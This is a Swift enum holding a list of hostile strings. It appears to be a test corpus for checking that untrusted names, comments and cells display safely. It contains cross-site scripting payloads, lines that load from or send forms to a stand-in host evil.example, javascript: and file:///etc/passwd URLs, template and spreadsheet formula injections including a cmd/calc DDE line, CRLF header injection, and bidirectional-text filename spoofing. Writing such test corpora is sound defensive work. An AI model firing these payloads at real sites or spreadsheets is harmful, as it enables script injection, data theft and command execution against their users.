/// What people and programs may have written wherever text is shown: names, comments, cells, errors.
enum StrangersText {
    static let all: [String] =
        (scripts + breakouts + marks + addresses + templates + formulas + controls + directions + sizes)

    /// Elements that would run something.
    private static let scripts: [String] = {
        let handlers = [
            "onload", "onerror", "onfocus", "onclick", "onmouseover", "ontoggle", "onanimationstart", "onpageshow",
        ]
        let elements = [
            "img src=x", "svg", "body", "iframe", "input autofocus", "details open", "video src=x", "a href=#",
        ]
        let pairs = handlers.flatMap { handler in elements.map { "<\($0) \(handler)=alert(1)>" } }
        return pairs + [
            "<script>alert(1)</script>", "<ScRiPt>alert(1)</sCrIpT>", "<script src=//evil.example/x.js></script>",
            "<svg><script>alert(1)</script></svg>",
            "<math><mtext></form><form><mglyph><svg><mtext><style><path id=\"</style><img onerror=alert(1) src>\">",
            "<iframe srcdoc='<script>alert(1)</script>'></iframe>", "<object data=javascript:alert(1)>",
            "<embed src=javascript:alert(1)>", "<base href=//evil.example/>",
            "<meta http-equiv=refresh content='0;url=//evil.example'>",
            "<link rel=stylesheet href=//evil.example/x.css>", "<style>*{background:url(//evil.example)}</style>",
            "<form action=//evil.example><input name=token>", "<template><script>alert(1)</script></template>",
            "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">", "<!--><script>alert(1)</script>-->",
            "<![CDATA[<script>alert(1)</script>]]>", "<?xml version=\"1.0\"?><x/>",
            "<xmp><script>alert(1)</script></xmp>",
            "<plaintext>", "<marquee onstart=alert(1)>", "<portal src=//evil.example>",
        ]
    }()

    /// What would end the place where text stands.
    private static let breakouts: [String] = {
        let ends = [
            "\"", "'", "`", ">", "\">", "'>", "\"'>", "</textarea>", "</title>", "</pre>", "</code>", "</bdi>",
            "</table>", "</style>", "</script>", "-->",
        ]
        return ends.flatMap { [$0, $0 + "<script>alert(1)</script>", $0 + " onfocus=alert(1) autofocus x="] }
    }()

    /// Marks that stand on the character before them: together they are one character to people, and two to a browser.
    private static let marks: [String] = [
        "\u{301}", "\u{338}", "\u{20DD}", "\u{FE0F}", "\u{200D}", "\u{1F3FD}", "\u{E0100}",
    ].flatMap {
        mark in ["\"", "'", "<", ">", "&", "`"].map { "\($0)\(mark) onfocus=alert(1) x=" }
    }

    private static let addresses = [
        "javascript:alert(1)", "JaVaScRiPt:alert(1)", " javascript:alert(1)", "java\tscript:alert(1)",
        "java\nscript:alert(1)",
        "data:text/html,<script>alert(1)</script>", "vbscript:msgbox(1)", "//evil.example",
        "https://evil.example/?q=\"><script>",
        "\\\\evil.example", "file:///etc/passwd", "&#106;avascript:alert(1)", "jav&#x09;ascript:alert(1)",
    ]

    /// What templates of this and other kinds would take for themselves.
    private static let templates = [
        "{{token}}", "{{{token}}}", "{{#frame}}{{token}}{{/frame}}", "{{>layout}}", "{{%CONTENT_TYPE:TEXT}}",
        "{{=<% %>=}}",
        "${7*7}", "#{7*7}", "<%= 7*7 %>", "{% raw %}", "%s%n%x", "{{frame.token}}", "{{/page}}",
    ]

    private static let formulas = [
        "=1+1", "+1+1", "-1+1", "@SUM(A1)", "=cmd|' /C calc'!A0", "\t=1", "\r=1", "=HYPERLINK(\"//evil.example\")",
    ]

    private static let controls: [String] =
        (0..<32).map { "a\(Character(Unicode.Scalar(UInt8($0))))b" }
        + [
            "\u{7F}", "\u{85}", "\u{9B}31m", "\u{1B}[31mred", "\u{1B}]0;title\u{7}", "a\u{0}b", "\r\nSet-Cookie: a=b",
            "\u{2028}", "\u{2029}", "\u{FEFF}", "\u{FFFE}", "\u{FFFF}", "\u{FFFD}", "\u{FFFC}",
        ]

    private static let directions = [
        "\u{202E}gpj.exe", "\u{202A}a", "\u{202B}a", "\u{202D}a", "\u{2066}a", "\u{2067}a", "\u{2068}a", "a\u{2069}",
        "\u{200E}a", "\u{200F}a",
        "\u{61C}a", "שלום <b>", "مرحبا \"", "a\u{200B}b", "a\u{2060}b", "a\u{AD}b", "👨‍👩‍👧", "🏴󠁧󠁢󠁥󠁮󠁧󠁿", "می‌خواهم", "Z̷̢͓a̸l̵g̶o̷",
    ]

    private static let sizes = [
        "", " ", String(repeating: "a", count: 100_000), String(repeating: "<", count: 10_000),
        String(repeating: "\u{301}", count: 5_000),
        String(repeating: "&amp;", count: 2_000), String(repeating: "\n", count: 3_000), "&lt;script&gt;", "&amp;lt;",
        "&#60;", "&quot;",
    ]
}
